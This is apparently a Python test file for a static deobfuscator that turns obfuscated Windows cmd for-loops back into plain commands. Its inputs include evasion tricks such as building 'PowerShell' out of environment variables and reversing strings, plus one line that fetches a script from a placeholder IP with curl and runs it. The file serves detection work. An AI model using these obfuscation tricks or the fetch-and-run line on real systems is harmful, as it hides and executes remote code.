"""Loops of cmd that build a string, undone without running anything."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from perilune.analysis import analyze
from perilune.analysis.rewrite_loops import loops


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("for /f %a in ('echo calc') do %a.exe", "calc.exe"),
        ("for /f \"tokens=2 delims=:\" %i in ('echo a:whoami:b') do %i", "whoami"),
        ("for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -c dir", "PowerShell -c dir"),
        ("for /f \"tokens=2 delims==\" %a in ('assoc .cmd') do %a", "cmdfile"),
        ('for /f "tokens=1-2" %a in ("net user") do %a %b', "net user"),
        ("set u=nets&for %A in (0 1 2) do set f=!f!!u:~%A,1!&if %A==2 call %f:~-3%", "call net"),
        ("set u=tac&for /l %A in (2,-1,0) do set f=!f!!u:~%A,1!&call !f!", "call cat"),
    ],
)
def test_a_loop_gives_what_cmd_would(written: str, plain: str) -> None:
    assert plain in loops(written)


@pytest.mark.parametrize(
    "text",
    [
        "for /f %a in ('whoami') do echo %a",
        "for /l %x in (1,0,9) do set f=!f!!q:~%x,1!",
        "for %f in (*.log) do echo %f",
        "for /f %a in ('set^|findstr NOTHING') do %a",
    ],
)
def test_what_cannot_be_known_is_left(text: str) -> None:
    assert loops(text) == text


def test_the_command_that_is_looped_over_is_in_the_tree() -> None:
    found = analyze("cmd /c for /f %i in ('curl -s http://203.0.113.5/c') do %i")
    assert "curl" in {layer.text.split()[0] for layer in found.layers if layer.note == "for /f"}


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="for /fFlL%!aAinuset=('\"):~,-0123 do&\\", max_size=120))
def test_nothing_raises(text: str) -> None:
    loops("set u=abc&" + text)
